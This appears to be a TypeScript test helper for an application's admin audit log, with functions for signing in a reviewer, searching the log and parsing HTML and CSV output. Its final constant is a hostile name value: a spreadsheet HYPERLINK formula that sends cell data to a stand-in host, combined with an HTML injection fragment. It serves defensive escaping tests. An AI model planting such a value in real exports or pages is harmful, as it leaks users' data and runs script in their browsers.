import assert from "node:assert/strict";
import { openWithClient, type WithClient } from "../../lib/requests/_requests.ts";
import { goesTo, signIn, type StaffBrowser } from "./_staff.ts";

/** Where the log is. */
export const PATH = "/admin/audit";

interface Desk {
  site: WithClient;
  reviewer: StaffBrowser;
}

/** A site with a client, and a reviewer who is signed in. */
export async function withLog(test: (desk: Desk) => Promise<void>): Promise<void> {
  await using site = await openWithClient();
  const reviewer = await signIn(site, {
    roles: ["reviewer"],
    id: "riitta",
    name: "Riitta Ratkoja",
  });
  await test({ site, reviewer });
}

/** Searches as the form does, and answers the page that it leads to. */
export async function found(
  reviewer: StaffBrowser,
  fields: Record<string, string>,
): Promise<string> {
  const to = goesTo(await reviewer.post(`${PATH}/search`, fields));
  assert.match(to ?? "", /^\/admin\/audit\?search=[\w-]+$/);
  return await reviewer.page(to!);
}

/** The numbers of the entries on a page, and what was done. */
export function entriesOf(page: string): string[] {
  return [...page.matchAll(/<tr><td data-label="Nro">(\d+)<.*?data-label="Mitä">([^<]*)</g)]
    .map(([, seq, what]) => `${seq} ${what}`);
}

/** The lines of a table whose cells hold no quotes. */
export function rowsOf(csv: string): string[][] {
  return csv.replace("\uFEFF", "").trimEnd().split("\r\n").map((line) =>
    line.slice(1, -1).split('","')
  );
}

/** A name that would run as a formula in a table and as a script on a page. */
export const HOSTILE = `=HYPERLINK("http://evil.example?"&A1);<img src=x>`;
